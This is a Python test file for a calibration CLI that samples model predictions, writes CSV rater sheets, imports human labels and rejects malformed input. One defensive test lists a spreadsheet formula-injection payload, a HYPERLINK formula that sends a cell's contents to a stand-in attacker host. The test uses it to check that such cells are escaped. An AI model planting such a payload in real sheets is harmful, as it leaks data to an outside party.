"""Rater sheets in and out, human verdicts, and the bad inputs of `calibrate import`."""

import csv
import json
import re

import pytest

from vlmdyn_cli.calibration.labels import human_verdicts, import_labels, normalise_label
from vlmdyn_cli.calibration.sample import sample_items, write_sheet
from vlmdyn_cli.errors import BadInput


def _triples_file(tmp_path, n=12):
    p = tmp_path / "triples.jsonl"
    cats = ["Object", "OCR", "Spatial"]
    with p.open("w") as f:
        for i in range(n):
            f.write(json.dumps({"id": f"x{i}", "question": f"q{i}?", "answer": f"a{i}",
                                "prediction": f"p{i}", "category": cats[i % 3]}) + "\n")
    return p


def _fill(sheet, out, labels):
    rows = list(csv.DictReader(sheet.open()))
    with out.open("w", newline="") as f:
        w = csv.DictWriter(f, fieldnames=list(rows[0].keys()))
        w.writeheader()
        for r, lab in zip(rows, labels):
            r["label"] = lab
            w.writerow(r)
    return rows


def test_sample_sheet_import_and_verdicts(tmp_path, db):
    items = sample_items(db, 9, input_path=_triples_file(tmp_path), name="s", seed=3, stratify="category")
    assert len(items) == 9
    cats = [it["category"] for it in items]
    assert all(cats.count(c) == 3 for c in ("Object", "OCR", "Spatial"))  # stratified: equal shares
    sheet = tmp_path / "s.csv"
    assert write_sheet(db, "s", sheet) == 9
    header = next(csv.reader(sheet.open()))
    assert header == ["item_id", "category", "question", "reference", "prediction", "label"]
    # four raters; item 0: 3 of 4 yes (75% -> yes); item 1: 2 of 4 (-> no)
    raters = {"ann": ["Y", "yes", "1", "TRUE", "n", "n", "y", "y", ""],
              "bob": ["y", "no", "y", "y", "n", "n", "y", "y", "y"],
              "cy": ["y", "n", "y", "y", "n", "n", "y", "y", "y"],
              "dee": ["n", "y", "y", "y", "n", "n", "y", "n", "y"]}
    for who, labs in raters.items():
        out = tmp_path / f"{who}.csv"
        rows = _fill(sheet, out, labs)
        r = import_labels(db, out, rater=who)
        assert r.imported == sum(1 for x in labs if x)
    hv = human_verdicts(db, agreement=0.75, min_raters=1)
    ids = {r["item_id"]: h for r, h in zip(rows, [it["triple_hash"] for it in sorted(items, key=lambda i: i["item_id"])])}
    first, second = ids["s-0001"], ids["s-0002"]
    assert hv.share_yes[first] == 0.75 and hv.verdict[first] == "yes"
    assert hv.share_yes[second] == 0.5 and hv.verdict[second] == "no"
    assert hv.n_raters[ids["s-0009"]] == 3
    strict = human_verdicts(db, agreement=0.75, min_raters=4)
    assert ids["s-0009"] in strict.too_few and ids["s-0009"] not in strict.verdict  # reported, not dropped silently


def test_reimport_is_idempotent_and_conflicts_are_rejected(tmp_path, db):
    sample_items(db, 3, input_path=_triples_file(tmp_path, 3), name="s")
    sheet = tmp_path / "s.csv"
    write_sheet(db, "s", sheet)
    a = tmp_path / "a.csv"
    _fill(sheet, a, ["y", "n", "y"])
    assert import_labels(db, a, rater="ann").imported == 3
    again = import_labels(db, a, rater="ann")
    assert again.imported == 0 and again.unchanged == 3
    b = tmp_path / "b.csv"
    _fill(sheet, b, ["n", "n", "y"])
    with pytest.raises(BadInput, match="already labelled"):
        import_labels(db, b, rater="ann")
    assert db.execute("select count(*) from human_labels").fetchone()[0] == 3


def test_bad_inputs_name_the_line_and_write_nothing(tmp_path, db, cli, db_path):
    sample_items(db, 3, input_path=_triples_file(tmp_path, 3), name="s")
    bad = tmp_path / "bad.jsonl"
    bad.write_text("\n".join([
        json.dumps({"item_id": "s-0001", "rater": "ann", "label": "yes"}),
        json.dumps({"item_id": "s-0002", "rater": "ann", "label": "maybe"}),
    ]))
    r = cli("calibrate", "import", bad, "--db", db_path)
    assert r.code == 2 and "bad.jsonl:2" in r.err and "maybe" in r.err
    assert db.execute("select count(*) from human_labels").fetchone()[0] == 0
    unknown = tmp_path / "unknown.jsonl"
    unknown.write_text(json.dumps({"item_id": "nope-1", "rater": "ann", "label": "y"}))
    r = cli("calibrate", "import", unknown, "--db", db_path)
    assert r.code == 2 and "unknown item id 'nope-1'" in r.err
    twice = tmp_path / "twice.jsonl"
    twice.write_text("\n".join(json.dumps({"item_id": "s-0001", "rater": "ann", "label": lab})
                               for lab in ("yes", "no")))
    r = cli("calibrate", "import", twice, "--db", db_path)
    assert r.code == 2 and "twice.jsonl:2" in r.err
    assert db.execute("select count(*) from human_labels").fetchone()[0] == 0


def test_triple_rows_define_their_own_items(tmp_path, db):
    f = tmp_path / "ext.jsonl"
    f.write_text(json.dumps({"question": "Q", "answer": "A", "prediction": "P", "rater": "r", "label": "0"}))
    res = import_labels(db, f, sample="ext")
    assert res.imported == 1 and res.new_items == 1
    assert db.execute("select label from human_labels").fetchone()[0] == "no"


@pytest.mark.parametrize("raw,out", [("Y", "yes"), ("no", "no"), ("1", "yes"), ("False", "no"), (" ", None)])
def test_label_spellings(raw, out):
    assert normalise_label(raw, "x") == out


def test_unknown_label_spelling():
    with pytest.raises(BadInput, match="line 7"):
        normalise_label("ok", "line 7")


def test_model_text_never_becomes_a_spreadsheet_formula_and_the_sheet_still_imports(tmp_path, db):
    """A prediction is untrusted text: one starting with = + - @ would run as a formula (or turn into
    a number) when a rater opens the sheet. The sheet writes it with a leading apostrophe; the
    import takes it off, and also accepts the sheet as a spreadsheet saves it (apostrophe dropped)."""
    hostile = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1", "-0.50", "@SUM(1+1)", "'quoted'", "plain"]
    src = tmp_path / "t.jsonl"
    src.write_text("".join(json.dumps({"question": f"q{i}", "answer": "a", "prediction": p}) + "\n"
                           for i, p in enumerate(hostile)))
    sample_items(db, len(hostile), input_path=src, name="s")
    sheet = tmp_path / "s.csv"
    write_sheet(db, "s", sheet)
    cells = [r["prediction"] for r in csv.DictReader(sheet.open(newline=""))]
    assert not [c for c in cells if c.startswith(("=", "+", "-", "@"))]
    assert sorted(cells) == sorted(["'" + p if p[0] in "=+-@" else p for p in hostile])
    as_saved = tmp_path / "saved.csv"          # what a spreadsheet writes back: the apostrophes gone
    as_saved.write_text(re.sub(r",'(?=[=+\-@])", ",", sheet.read_text()))
    for who, f in (("ann", sheet), ("bob", as_saved)):
        filled = tmp_path / f"{who}.csv"
        _fill(f, filled, ["y"] * len(hostile))
        assert import_labels(db, filled, rater=who).imported == len(hostile)
    stored = {r[0] for r in db.execute("SELECT t.prediction FROM human_labels h JOIN triples t "
                                       "ON t.hash = h.triple_hash")}
    assert stored == set(hostile)
